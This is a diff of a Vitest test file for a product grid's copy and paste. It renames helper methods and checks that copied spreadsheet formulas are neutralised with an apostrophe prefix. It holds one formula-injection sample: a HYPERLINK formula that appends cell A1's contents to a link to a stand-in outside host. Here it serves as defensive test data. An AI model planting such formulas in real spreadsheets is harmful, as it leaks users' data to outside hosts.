@@ -1,6 +1,6 @@
 import { cleanup, waitFor } from '@testing-library/react'
 import { afterEach, beforeEach, expect, test, vi } from 'vitest'
-import type { Product } from '#lib/domain/product.ts'
+import type { Product } from '#lib/catalog/product/product.ts'
 import { buildRowProduct, openGrid } from './open-grid.tsx'
 
 vi.mock('#lib/rpc/client/call.ts', () => import('#tests/components/fake-call.ts'))
@@ -39,23 +39,23 @@ const formula = '=HYPERLINK("https://elsewhere.example/"&A1)'
 test('what a spreadsheet would run is copied so that it does not, and pasted as it was', async () => {
   const products = [buildRowProduct(0, { name: formula }), buildRowProduct(1)]
   const grid = await openGrid(Promise.resolve(products), [{ name: formula }, {}])
-  await grid.copy(0, 0)
+  await grid.replica(0, 0)
   expect(clipboard.texts.get('text/plain')).toBe(`'${formula}`)
   expect(clipboard.texts.get('text/html')).toContain(`<td>'=HYPERLINK(`)
   await grid.paste(1, `'${formula}`)
-  expect(grid.typed()).toEqual([[products[1]?.id, { name: formula }]])
+  expect(grid.entered()).toEqual([[products[1]?.id, { name: formula }]])
 })
 
 test('figures stay figures', async () => {
   const grid = await openGrid(Promise.resolve([]), [{ quantity: -3 }, {}])
-  await grid.copy(0, 3)
+  await grid.replica(0, 3)
   expect(clipboard.texts.get('text/plain')).toBe('-3')
 })
 
 test('a copy that is stopped leaves the clipboard as it was', async () => {
   const { promise, resolve } = Promise.withResolvers<readonly Product[]>()
   const grid = await openGrid(promise)
-  const copied = grid.copy(0, 1)
+  const copied = grid.replica(0, 1)
   expect(grid.stop()).toBe(true)
   await copied
   expect(grid.notice()).toBe('Stopped. Everything is as it was before.')
@@ -68,7 +68,7 @@ test('what finds no row or column when it is pasted is said', async () => {
   const products = [buildRowProduct(0), buildRowProduct(1)]
   const grid = await openGrid(Promise.resolve(products))
   await grid.pasteBlock(1, [['One'], ['Two'], ['Three']])
-  expect(grid.typed()).toEqual([[products[1]?.id, { name: 'One' }]])
+  expect(grid.entered()).toEqual([[products[1]?.id, { name: 'One' }]])
   expect(grid.notice()).toBe('Not pasted: 2 rows beyond the end of the list.')
   await grid.pasteBlock(1, [['Name', 'Brand', '5', '2', 'Lost']])
   expect(grid.notice()).toContain('Not pasted: 1 column beyond the end of the list.')
@@ -79,8 +79,8 @@ test('what finds no row or column when it is pasted is said', async () => {
 test('a pasted amount that can be read in two ways waits for an answer, and nothing is typed', async () => {
   const grid = await openGrid(Promise.resolve([buildRowProduct(0), buildRowProduct(1)]))
   await grid.pasteBlock(0, [['Mug', '', '1.234']])
-  expect([grid.isUnclear(), grid.typed()]).toEqual([true, []])
+  expect([grid.isUnclear(), grid.entered()]).toEqual([true, []])
   await grid.answer(',')
   expect(grid.isUnclear()).toBe(false)
-  await waitFor(() => expect(JSON.stringify(grid.typed())).toContain('"listPrice":"1234"'))
+  await waitFor(() => expect(JSON.stringify(grid.entered())).toContain('"listPrice":"1234"'))
 })
